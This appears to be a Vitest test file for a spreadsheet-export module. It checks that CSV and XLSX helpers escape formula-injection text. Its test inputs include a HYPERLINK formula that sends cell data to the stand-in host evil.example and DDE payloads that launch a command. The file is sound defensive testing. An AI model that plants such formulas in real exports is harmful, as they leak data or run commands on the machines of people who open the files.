import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, describe, expect, it } from 'vitest'
import { csvSafeText, looksLikeFormula, xlsxSafeText } from '../../../../src/main/core/export/safeText'

const dir = mkdtempSync(path.join(tmpdir(), 'pulso-safe-text-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

const injections = ['=HYPERLINK("http://evil.example/?d="&A1,"Clique")', "=cmd|' /C calc'!A0", '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1']

describe('formula-looking text in exports', () => {
  it('csv: formula-looking text gets a leading quote; other text is unchanged', () => {
    for (const text of injections) expect(csvSafeText(text)).toBe(`'${text}`)
    for (const text of ['José', 'R$ 12', '1.234,56', 'a=b', '', ' =1']) expect(csvSafeText(text)).toBe(text)
  })

  it('csv: no escaped text ever starts like a formula, and unescaping gives the text back', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const safe = csvSafeText(text)
        expect(looksLikeFormula(safe)).toBe(false)
        expect(safe === text || safe === `'${text}`).toBe(true)
      }),
      { numRuns: 2000 }
    )
  })

  it('xlsx: formula-looking text is written as a string cell, never as a formula', async () => {
    const book = new ExcelJS.Workbook()
    const sheet = book.addWorksheet('Clientes')
    injections.forEach((text, i) => {
      sheet.getCell(i + 1, 1).value = xlsxSafeText(text)
    })
    const file = path.join(dir, 'report.xlsx')
    await book.xlsx.writeFile(file)
    const parts = unzipSync(readFileSync(file))
    const sheetXml = strFromU8(parts['xl/worksheets/sheet1.xml'])
    expect(sheetXml).not.toContain('<f>')
    expect(sheetXml.match(/t="s"/g)).toHaveLength(injections.length)
    const back = new ExcelJS.Workbook()
    await back.xlsx.readFile(file)
    // XML turns a carriage return in text into a line feed; nothing else changes.
    const read = injections.map((_, i) => back.getWorksheet('Clientes')?.getCell(i + 1, 1).value)
    expect(read).toEqual(injections.map((text) => text.replace(/\r/g, '\n')))
  })
})
